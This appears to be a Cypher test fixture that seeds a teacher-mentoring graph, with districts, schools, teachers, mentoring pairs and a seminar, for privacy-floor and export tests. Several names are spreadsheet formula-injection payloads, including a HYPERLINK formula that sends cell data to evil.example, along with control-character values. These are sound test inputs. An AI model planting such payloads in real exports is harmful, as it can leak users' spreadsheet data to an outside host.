// The privacy floor and safe exports (asOf 2024-10-01, k = 5). Young teachers by
// organization: o1 6 (3 mentored), o2 1 (0), o3 6 (2), o4 2 (1); new teachers: o1 1 (o1-y1),
// o3 1 (o3-y1). Districts: d1 = o1 + o2 = 7 young, d2 = o3 + o4 = 8. Kinds: SCHOOL o1 o2 o3
// = 13, PRESCHOOL o4 = 2. Mentors: o1-v (o1), o3-v (o3), x-v (o2, names with formulas and
// control characters); pairs o1-v -> o1-y1..y3, o3-v -> o3-y1..y2, x-v -> o4-y1 (external),
// all from 2024-09-02.
CREATE (:District {id: 'd1', name: 'Ленинский'}), (:District {id: 'd2', name: 'Устиновский'});
CREATE (:Organization {id: 'o1', name: 'МБОУ «СОШ №1»', kind: 'SCHOOL', flags: []}),
	(:Organization {id: 'o2', name: 'МБОУ «СОШ №68»', kind: 'SCHOOL', flags: []}),
	(:Organization {id: 'o3', name: 'МБОУ «СОШ №3»', kind: 'SCHOOL', flags: []}),
	(:Organization {id: 'o4', name: '=HYPERLINK("http://evil.example/?"&A1)', kind: 'PRESCHOOL', flags: []});
MATCH (o:Organization), (d:District) WHERE (o.id IN ['o1', 'o2'] AND d.id = 'd1') OR (o.id IN ['o3', 'o4'] AND d.id = 'd2')
CREATE (o)-[:IN_DISTRICT]->(d);
UNWIND [
	['o1-v', 'o1', '2000-09-01', 'Наставник Первый'],
	['o1-y1', 'o1', '2024-09-01', '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'],
	['o1-y2', 'o1', '2023-09-01', 'Ctrl\u0001Bell\u0007Back\u0008Space'],
	['o1-y3', 'o1', '2023-09-01', 'A & B <c> "quoted" \'single\''],
	['o1-y4', 'o1', '2023-09-01', 'Эмодзи 😀 Учитель'],
	['o1-y5', 'o1', '2023-09-01', '+7 900 000-00-00'],
	['o1-y6', 'o1', '2023-09-01', '@SUM(1+1)'],
	['o2-y1', 'o2', '2023-09-01', 'Единственный Молодой'],
	['x-v', 'o2', '2001-09-01', '-2+3 Минус'],
	['o3-v', 'o3', '2001-09-01', 'Наставник Третий'],
	['o3-y1', 'o3', '2024-08-01', '\tТабуляция'],
	['o3-y2', 'o3', '2023-09-01', '\rВозврат'],
	['o3-y3', 'o3', '2023-09-01', 'Учитель o3-y3'],
	['o3-y4', 'o3', '2023-09-01', 'Учитель o3-y4'],
	['o3-y5', 'o3', '2023-09-01', 'Учитель o3-y5'],
	['o3-y6', 'o3', '2023-09-01', 'Учитель o3-y6'],
	['o4-y1', 'o4', '2023-09-01', 'Учитель o4-y1'],
	['o4-y2', 'o4', '2023-09-01', 'Учитель o4-y2']
] AS row
MATCH (o:Organization {id: row[1]})
CREATE (t:Teacher {id: row[0], fullName: row[3], position: 'учитель', category: 'NONE', teachingSince: date(row[2]),
	weeklyHours: 20.0})
CREATE (t)-[:WORKS_AT {since: date(row[2]), main: true}]->(o);
UNWIND [['o1-v', 'o1-y1', 'q1'], ['o1-v', 'o1-y2', 'q2'], ['o1-v', 'o1-y3', 'q3'], ['o3-v', 'o3-y1', 'q4'],
	['o3-v', 'o3-y2', 'q5'], ['x-v', 'o4-y1', 'q6']] AS row
MATCH (m:Teacher {id: row[0]}), (e:Teacher {id: row[1]})
CREATE (m)-[:MENTOR_IN]->(:MentoringPair {id: row[2], startedOn: date('2024-09-02')})<-[:MENTEE_IN]-(e);
// One event across organizations: o3-v speaks to o1-y4, o1-y5 and o2-y1 (ties o3 -> o1, o3 -> o2).
CREATE (:Event {id: 'ev1', title: 'Семинар', format: 'SEMINAR', date: date('2024-05-15'), level: 'MUNICIPAL'});
UNWIND [['o3-v', 'SPEAKER'], ['o1-y4', 'ATTENDEE'], ['o1-y5', 'ATTENDEE'], ['o2-y1', 'ATTENDEE']] AS row
MATCH (t:Teacher {id: row[0]}), (e:Event {id: 'ev1'})
CREATE (t)-[:PARTICIPATED_IN {role: row[1]}]->(e);
